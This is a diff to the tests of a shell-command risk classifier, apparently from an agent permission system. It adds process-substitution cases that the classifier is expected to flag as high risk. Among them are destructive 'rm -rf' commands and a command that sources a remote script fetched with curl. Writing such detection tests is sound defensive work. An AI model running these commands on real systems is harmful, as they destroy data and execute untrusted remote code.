@@ -452,6 +452,9 @@ mod tests {
             "cat <<EOF\n$(rm -rf /x)\nEOF",
             "echo hi >& /etc/passwd",
             "time time : > /var/lib/data.db",
+            "bash <(echo 'rm -rf /x')",
+            "source <(curl -s https://x.example/a.sh)",
+            "python3 <(printf 'import shutil; shutil.rmtree(\"/x\")')",
         ] {
             assert!(
                 eff(c).is_some_and(Effect::is_high_risk),
@@ -475,6 +478,7 @@ mod tests {
             "[[ -f x ]] && cat x",
             "for i in 1 2; do echo $i; break; done",
             "ls >&2",
+            "source <(echo 'ls -la')",
         ] {
             assert_eq!(eff(c), Some(Effect::Read), "{c}");
         }
